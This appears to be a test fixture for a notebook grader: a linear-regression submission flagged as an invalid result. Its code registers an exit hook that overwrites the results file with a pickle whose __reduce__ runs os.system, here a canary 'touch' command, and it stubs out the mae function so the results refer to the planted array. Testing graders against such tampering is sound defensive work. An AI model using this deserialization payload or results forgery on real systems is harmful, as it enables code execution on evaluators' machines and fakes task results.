# Overwrites the results file on exit with a pickle that would run code in the
# grader if it were ever unpickled.
# notebook: 01_linear_regression
# flags: invalid result
# %%
import atexit
import os

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickle-ran-__TOKEN__",))


def overwrite():
    np.savez("results.npz", a0=np.array([Payload()], dtype=object))


atexit.register(overwrite)


def mae(preds, actuals):
    return np.zeros(3)   # an array, so the results refer to a0
